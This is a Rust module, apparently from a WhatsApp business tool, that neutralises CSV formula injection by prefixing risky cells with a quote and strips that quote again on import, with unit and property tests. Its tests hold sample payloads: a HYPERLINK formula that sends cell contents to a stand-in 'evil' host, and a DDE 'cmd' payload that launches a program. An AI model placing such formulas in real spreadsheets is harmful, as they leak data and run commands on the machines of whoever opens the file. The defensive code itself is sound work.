//! Cells that a spreadsheet would read as formulas.
//!
//! People write to the business, and what they write is in CSV files that colleagues open. A cell that begins with `=` is a
//! formula there, which may read other cells and call a server. So a `'` is put before it: a spreadsheet shows the cell as
//! text. `wa contacts import` removes it again.
//!
//! A file with commas that is opened where lists are written with semicolons is split at the semicolons and line ends of its
//! texts. So the same holds after those, inside a cell.
//!
//! Source: OWASP, "CSV Injection", and ASVS 5, requirement 1.2.10. RFC 4180 knows no formulas: quotes do not help.

/// A cell is a formula if it begins with one of these. The wide forms count in Japanese spreadsheets.
const FORMULA: [char; 8] = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
/// Some spreadsheets skip these at the beginning of a cell.
const SKIPPED: [char; 4] = ['\t', '\r', '\n', '\0'];
/// Where a program that splits the file differently begins a cell.
const SEPARATORS: [char; 4] = [';', '\t', '\r', '\n'];
const GUARD: char = '\'';

/// The text as a cell that is not a formula.
pub fn guarded(text: &str) -> String {
    let mut cell = String::with_capacity(text.len() + 1);
    if begins_formula(text, Place::CellStart) {
        cell.push(GUARD);
    }
    for (index, c) in text.char_indices() {
        cell.push(c);
        let rest = text.get(index + c.len_utf8()..).unwrap_or_default();
        if SEPARATORS.contains(&c) && begins_formula(rest, Place::AfterSeparator) {
            cell.push(GUARD);
        }
    }
    cell
}

/// The text of a cell that [`guarded`] made. Any other cell is returned as it is, except that the `'` is removed by which
/// people keep a spreadsheet from reading a number.
pub fn unguarded(cell: &str) -> String {
    let mut text = String::with_capacity(cell.len());
    let mut place = Some(Place::CellStart);
    for (index, c) in cell.char_indices() {
        let rest = cell.get(index + c.len_utf8()..).unwrap_or_default();
        let is_guard = c == GUARD && place.is_some_and(|place| is_dangerous(rest, place));
        if !is_guard {
            text.push(c);
        }
        place = SEPARATORS.contains(&c).then_some(Place::AfterSeparator);
    }
    text
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Place {
    CellStart,
    AfterSeparator,
}

fn begins_formula(text: &str, place: Place) -> bool {
    is_dangerous(text, place) && !(place == Place::CellStart && is_number(text))
}

/// Quotes before the sign are skipped: the program that splits the file differently reads them as quotes of the cell.
fn is_dangerous(text: &str, place: Place) -> bool {
    let first = text.chars().find(|c| !matches!(c, '\'' | '"'));
    first.is_some_and(|c| FORMULA.contains(&c) || place == Place::CellStart && SKIPPED.contains(&c))
}

/// A phone number or an amount, which is no formula that does anything.
fn is_number(text: &str) -> bool {
    let digits = text.strip_prefix(['+', '-']).unwrap_or(text);
    digits.bytes().any(|byte| byte.is_ascii_digit()) && digits.bytes().all(|byte| byte.is_ascii_digit() || byte == b'.')
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn a_formula_is_text_and_a_number_is_itself() {
        for (text, expected) in [
            ("=HYPERLINK(\"https://evil/?\"&A1,\"order\")", "'=HYPERLINK(\"https://evil/?\"&A1,\"order\")"),
            ("+1-1+cmd|' /C calc'!A0", "'+1-1+cmd|' /C calc'!A0"),
            ("-2+3", "'-2+3"),
            ("@SUM(1)", "'@SUM(1)"),
            ("\t=1", "'\t'=1"),
            ("\r=1", "'\r'=1"),
            ("＝1", "'＝1"),
            ("'=1", "''=1"),
            ("Hi;=1+1", "Hi;'=1+1"),
            ("Hi;\"=1+1", "Hi;'\"=1+1"),
            ("Hi\r\n=1+1", "Hi\r\n'=1+1"),
            ("+14155550123", "+14155550123"),
            ("-0.00750", "-0.00750"),
            ("whatsapp:+14155550123", "whatsapp:+14155550123"),
            ("Where is my order? 1+1=2", "Where is my order? 1+1=2"),
            ("it's", "it's"),
            ("", ""),
        ] {
            assert_eq!(guarded(text), expected);
            assert_eq!(unguarded(expected), text);
        }
        assert_eq!(unguarded("'+14155550123"), "+14155550123", "as people type a number");
    }

    proptest! {
        #[test]
        fn a_guarded_cell_is_no_formula_and_loses_nothing(text in "[=+@＝'\"; \t\r\n\0a1.-]{0,12}") {
            let cell = guarded(&text);
            prop_assert_eq!(unguarded(&cell), text);
            for part in cell.split(SEPARATORS).filter(|part| !is_number(part)) {
                prop_assert!(!part.trim_start_matches('"').starts_with(FORMULA), "{:?}", cell);
            }
        }
    }
}
